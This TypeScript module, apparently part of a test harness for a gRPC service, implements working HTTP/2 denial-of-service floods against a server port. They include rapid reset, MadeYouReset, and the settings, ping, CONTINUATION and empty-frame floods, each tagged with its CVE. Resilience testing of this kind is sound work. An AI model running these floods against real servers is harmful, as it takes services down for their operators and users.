import { pathOf } from "../clients/client.ts";
import { FLAG, FRAME, grpcHeaders, headerBlock, http2Frame, open, PREFACE, send } from "./wire.ts";

/** Headers of a gRPC call. */
export const GRPC_HEADERS = grpcHeaders(pathOf());

/** Headers of a call of each way that one can go: unary, a stream, a method that is not there. */
const CALLS: readonly Buffer[] = [
  GRPC_HEADERS,
  grpcHeaders(pathOf("PlanStream")),
  grpcHeaders(pathOf("Dance")),
];

/** Frames of a flood are written so many at a time. */
const BATCH = 500;

/**
 * Sends frames on connections, each until the server closes it or it has had its share, until there are enough.
 *
 * @param make the frame of a number on its connection.
 */
async function flood(
  port: number,
  count: number,
  make: (index: number) => Buffer,
  lead = PREFACE,
): Promise<number> {
  let sent = 0;
  while (sent < count) {
    const socket = open(port);
    await send(socket, lead);
    for (let index = 0; index < count && sent < count && !socket.destroyed; index += BATCH) {
      const frames = Array.from({ length: BATCH }, (_, offset) => make(index + offset));
      await send(socket, Buffer.concat(frames));
      sent += BATCH;
      // What the server says to it is to be heard.
      await new Promise(setImmediate);
    }
    socket.destroy();
  }
  return sent;
}

/** Opens calls and takes them back at once (CVE-2023-44487). */
export function rapidReset(port: number, count: number): Promise<number> {
  const cancel = Buffer.from([0, 0, 0, 8]);
  return flood(port, count, (index) => {
    const stream = 2 * index + 1;
    return Buffer.concat([
      http2Frame(FRAME.headers, FLAG.endHeaders, stream, CALLS[index % CALLS.length] ?? GRPC_HEADERS),
      http2Frame(FRAME.reset, 0, stream, cancel),
    ]);
  });
}

/** Makes the server reset calls itself, by updates of a window that are no updates (CVE-2025-8671). */
export function madeYouReset(port: number, count: number): Promise<number> {
  return flood(port, count, (index) => {
    const stream = 2 * index + 1;
    return Buffer.concat([
      http2Frame(FRAME.headers, FLAG.endHeaders, stream, CALLS[index % CALLS.length] ?? GRPC_HEADERS),
      http2Frame(FRAME.window, 0, stream, Buffer.alloc(4)),
    ]);
  });
}

/** Changes its settings without end (CVE-2019-9515). */
export function settingsFlood(port: number, count: number): Promise<number> {
  const frame = http2Frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 1, 0, 0]));
  return flood(port, count, () => frame);
}

/** Asks whether the server is there without end (CVE-2019-9512). */
export function pingFlood(port: number, count: number): Promise<number> {
  const frame = http2Frame(FRAME.ping, 0, 0, Buffer.alloc(8));
  return flood(port, count, () => frame);
}

/** Sends headers that never end (CVE-2024-27316). */
export function continuationFlood(port: number, count: number): Promise<number> {
  const more = headerBlock({ "x-padding": "a".repeat(100) });
  const frame = http2Frame(FRAME.continuation, 0, 1, more);
  const lead = Buffer.concat([PREFACE, http2Frame(FRAME.headers, 0, 1, GRPC_HEADERS)]);
  return flood(port, count, () => frame, lead);
}

/** Sends frames of a call that have nothing in them (CVE-2019-9518). */
export function emptyFrames(port: number, count: number): Promise<number> {
  const frame = http2Frame(FRAME.data, 0, 1, Buffer.alloc(0));
  const lead = Buffer.concat([PREFACE, http2Frame(FRAME.headers, FLAG.endHeaders, 1, GRPC_HEADERS)]);
  return flood(port, count, () => frame, lead);
}
